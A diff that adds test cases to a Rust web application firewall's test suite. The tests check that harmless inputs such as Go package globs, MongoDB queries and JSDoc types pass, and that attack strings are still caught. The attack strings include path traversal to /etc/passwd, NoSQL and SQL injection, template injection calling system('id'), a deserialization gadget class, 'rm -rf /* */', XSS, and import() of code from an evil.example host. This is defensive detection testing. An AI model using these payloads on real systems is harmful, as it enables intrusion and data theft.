@@ -5501,7 +5501,7 @@ fn holdout63_to_65_headers_types_and_snippets_pass_and_their_attacks_still_score
     let mail = "From: News <news@acme.example>\r\nTo: seed@inbox.example\r\nSubject: Spring sale\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nOur spring sale starts Monday.\r\n";
     let o = post("/v1/spam-check", "message/rfc822", mail, &waf);
     assert!(rule(&o, 1010).is_none(), "{o:?}");
-    for ct in ["application/x-tcl", "message/x-unknown", "application/edn"] {
+    for ct in ["application/x-tcl", "message/x-unknown", "application/vnd.ms-excel"] {
         let o = post("/v1/x", ct, "x", &waf);
         assert!(rule(&o, 1010).is_some(), "{ct}: {o:?}");
     }
@@ -6436,5 +6436,184 @@ fn holdout92_to_94_classes_pass_and_their_attacks_still_score() {
         "1\n00:00:01,000 --> 00:00:02,000\n<script>alert(1)</script>\n",
         &waf,
     );
+    assert!(blocked_category(&o, Category::Xss), "{o:?}");
+}
+
+#[test]
+fn holdout98_to_103_classes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
+    let send = |method: &str, target: &str, ct: &str, body: &str| {
+        let mut r = get(target, &[("content-type", ct)]);
+        r.method = method.into();
+        r.push_header("content-length", body.len().to_string().as_bytes());
+        let mut s = waf.inspect_head(&r);
+        waf.inspect_body(&mut s, ct.as_bytes(), body.as_bytes());
+        waf.outcome(&s)
+    };
+
+    // Go's and Bazel's "every package below" (`./...`, `//media/...`) is no step up (3000); a
+    // step up, `/.../` and four dots still are.
+    for v in ["//media/...", "go test ./... -race", "./..."] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(rule(&o, 3000).is_none(), "{v}: {o:?}");
+        }
+    }
+    for v in ["/var/www/..", "/.../.../etc/passwd", "....//....//etc/passwd", "x/...."] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(rule(&o, 3000) == Some(5), "{v}: {o:?}");
+        }
+    }
+    // A JSON document held in a string escapes its quotes: `\"...\"` separates no path.
+    let o = json_post(&waf, r#"{"schema": "{\"doc\": \"e.g. {\\\"line1\\\": \\\"...\\\"}\"}"}"#);
+    assert!(!o.blocked && rule(&o, 3000).is_none(), "{o:?}");
+    for o in as_field_and_query(&waf, "..\\..\\windows\\win.ini") {
+        assert!(blocked_category(&o, Category::Lfi), "{o:?}");
+    }
+
+    // A method `eval()` with nothing to evaluate (PyTorch's `model.eval()`) runs nothing (4106,
+    // 3301, 3402); with an argument, open at the end of the value, or the global's, it still
+    // counts.
+    for o in as_field_and_query(&waf, "What's the difference between `torch.no_grad()` and `model.eval()`?") {
+        assert!(!o.blocked && o.matches.is_empty(), "{o:?}");
+    }
+    let o = outcome(&waf, "/post?testarg=%5Cu0065val%28%29");
+    assert!(o.blocked, "{o:?}");
+    for v in ["eval(atob('YWxlcnQoMSk='))", "top.eval(name)", "x=eval( location.hash.slice(1) )", "eval(", "eval()"] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(rule(&o, 4106) == Some(5), "{v}: {o:?}");
+        }
+    }
+
+    // A MongoDB shell program (a console's saved query) names its operators by design (4211 weak);
+    // a PHP variable before `)` is no operator at all. An operator as a key still counts.
+    let mongosh = "db.orders.aggregate([\n  { $match: { status: { $in: ['paid', 'shipped'] } } },\n  { $group: { _id: '$sku', n: { $sum: 1 } } }\n])";
+    for o in as_field_and_query(&waf, mongosh) {
+        assert!(!o.blocked && rule(&o, 4211) != Some(5), "{o:?}");
+    }
+    let php = "add_filter( 'the_content', function ( $text ) {\n    return str_replace( 'Foo', 'Bar', $text );\n} );";
+    for o in as_field_and_query(&waf, php) {
+        assert!(rule(&o, 4211).is_none(), "{o:?}");
+    }
+    for v in [
+        "{\"$where\": \"sleep(100)\"}",
+        "[$ne]",
+        "{$gt: ''}",
+        "{\\\"$ne\\\": 1}",
+        "db.users.find() ; {\"$where\": \"1\"}",
+    ] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(rule(&o, 4211) == Some(5), "{v}: {o:?}");
+        }
+    }
+    let o = outcome(&waf, "/login?user[$ne]=x&pass[$ne]=x");
+    assert!(blocked_category(&o, Category::Sqli), "{o:?}");
+
+    // A `${name}` after a glyph in a prompt theme's format string is a placeholder (3305); alone
+    // (a shell's expansion, in a JSON field too), with a call in it or splitting a word, it still
+    // counts.
+    let o = send(
+        "PUT",
+        "/v1/files/starship.toml",
+        "text/plain",
+        "[git_status]\nahead = \"⇡${count}\"\nbehind = \"⇣${count}\"\n",
+    );
+    assert!(!o.blocked && rule(&o, 3305).is_none(), "{o:?}");
+    assert!(rule(&outcome(&waf, "/get?foo=%24%7Ba%7D"), 3305) == Some(5));
+    for v in ["${datasource}", "${system('id')}", "c${x}url http://x", "${f}(1)"] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(rule(&o, 3305) == Some(5), "{v}: {o:?}");
+        }
+    }
+
+    // A Maven coordinate names no class (4401); the package alone and a gadget class still count.
+    let o = json_post(&waf, r#"{"package": {"name": "org.apache.commons:commons-text", "ecosystem": "Maven"}}"#);
+    assert!(!o.blocked && rule(&o, 4401).is_none(), "{o:?}");
+    for v in ["org.apache.commons", "org.apache.commons.collections.functors.InvokerTransformer"] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(rule(&o, 4401) == Some(5), "{v}: {o:?}");
+        }
+    }
+
+    // REST Client's `{{$datetime iso8601 -30 d}}` subtracts nothing (3600); `{{7 - 7}}` does.
+    let http = "### List my orders\nGET {{baseUrl}}/v2/orders?since={{$datetime iso8601 -30 d}}\nAuthorization: Bearer {{token}}\n";
+    let o = send("PUT", "/api/v1/workspaces/w/files/orders.http", "text/plain", http);
+    assert!(!o.blocked && rule(&o, 3600).is_none(), "{o:?}");
+    for v in ["{{7 - 7}}", "{{ 10 -1 }}"] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(rule(&o, 3600) == Some(5), "{v}: {o:?}");
+        }
+    }
+
+    // A PUT or PATCH writes the dot-file its path names (3002): a dotfiles sync, an online IDE's
+    // `.replit`. Read with a GET, or written into version-control metadata, the web server's
+    // settings or WEB-INF, it still counts.
+    for (m, t) in [
+        ("PUT", "/v1/files/.vimrc"),
+        ("PUT", "/v1/files/.config%2Fnvim%2Finit.lua"),
+        ("PATCH", "/api/repls/r1/files/.replit"),
+    ] {
+        let o = send(m, t, "text/plain", "set number\n");
+        assert!(!o.blocked && rule(&o, 3002).is_none(), "{m} {t}: {o:?}");
+    }
+    assert!(rule(&outcome(&waf, "/v1/files/.vimrc"), 3002) == Some(5));
+    for t in ["/repo/.git/hooks/pre-commit", "/site/.htaccess", "/app/WEB-INF/web.xml", "/x/.user.ini", "/r/.hg/hgrc"] {
+        let o = send("PUT", t, "text/plain", "x\n");
+        assert!(o.blocked && o.matches.iter().any(|m| m.category == Category::Lfi), "{t}: {o:?}");
+    }
+
+    // A comment that ends a line of C (`uint8_t channels;   /* 3 = RGB, 4 = RGBA */`) globs
+    // nothing (3205 weak); after a word it is the glob it looks like.
+    let header = "#pragma once\n#include <stdint.h>\n\ntypedef struct {\n    uint32_t width;\n    uint8_t  channels;   /* 3 = RGB, 4 = RGBA */\n    uint8_t  colorspace; /* 0 = sRGB, 1 = linear */\n} qoi_desc;\n";
+    let o = json_post(&waf, &serde_json::json!({ "header": header }).to_string());
+    assert!(!o.blocked && rule(&o, 3205) != Some(5), "{o:?}");
+    for o in as_field_and_query(&waf, "rm -rf /* */") {
+        assert!(rule(&o, 3205) == Some(5), "{o:?}");
+    }
+
+    // A literal of spaces in a query's concatenation (`first_name || ' ' || last_name`) opens a
+    // string, it closes none (4203, 4213, 4214 stay weak in a whole query).
+    let sql = "SELECT\n  c.first_name || ' ' || c.last_name AS full_name,\n  SUM(o.total) AS ltv\nFROM customers c\nJOIN orders o USING (user_id)\nWHERE o.status <> 'refunded'\nGROUP BY 1\nHAVING SUM(o.total) >= 500";
+    for o in as_field_and_query(&waf, sql) {
+        assert!(!o.blocked, "{o:?}");
+    }
+    for v in ["' ' or 1=1 --", "x' ' union select password from users --"] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(blocked_category(&o, Category::Sqli), "{v}: {o:?}");
+        }
+    }
+
+    // A JSDoc type's `{import('…')}` imports nothing (4106); an `import('…')` in the code, or in
+    // a comment without a tag, still counts.
+    let config = "/** @type {import('tailwindcss').Config} */\nmodule.exports = {\n  content: ['./src/index.html'],\n  theme: { extend: {} },\n};\n";
+    let o = send("PUT", "/v1/projects/site/files/tailwind.config.js", "application/javascript", config);
+    assert!(!o.blocked && rule(&o, 4106).is_none(), "{o:?}");
+    for v in [
+        "/** @type {import('x').Y} */\nimport('//evil.example/x.js');",
+        "/* {import('//evil.example/x.js')} */",
+        "<img src=x onerror=\"{import('//evil.example/x.js')}\">",
+    ] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(rule(&o, 4106) == Some(5), "{v}: {o:?}");
+        }
+    }
+
+    // HLS playlists, citations (BibTeX, RIS), EDN and property lists are in the media-type list
+    // (1010) and read as text; an HLS playlist under `audio/` is text too, so what it carries is
+    // inspected.
+    let m3u8 =
+        "#EXTM3U\n#EXT-X-VERSION:6\n#EXT-X-STREAM-INF:BANDWIDTH=7800000,RESOLUTION=1920x1080\n1080p/index.m3u8\n";
+    for (ct, body) in [
+        ("application/vnd.apple.mpegurl", m3u8),
+        ("audio/mpegurl", m3u8),
+        ("application/x-bibtex; charset=utf-8", "@article{pauli2012,\n  author = {Pauli, Harald and O'Neill, Ann},\n  year = {2012}\n}\n"),
+        ("application/x-research-info-systems", "TY  - JOUR\nAU  - Dullinger, Stefan\nPY  - 2012\nER  - \n"),
+        ("application/edn", "{:paths [\"src\"] :deps {org.clojure/clojure {:mvn/version \"1.11.3\"}}}"),
+        ("application/x-plist", "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>method</key><string>app-store</string></dict></plist>\n"),
+    ] {
+        let o = send("PUT", "/v1/files/x", ct, body);
+        assert!(!o.blocked && o.matches.is_empty(), "{ct}: {o:?}");
+    }
+    let o = send("PUT", "/v1/files/x", "audio/x-mpegurl", "#EXTM3U\n#EXTINF:10,<script>alert(1)</script>\nseg1.ts\n");
     assert!(blocked_category(&o, Category::Xss), "{o:?}");
 }
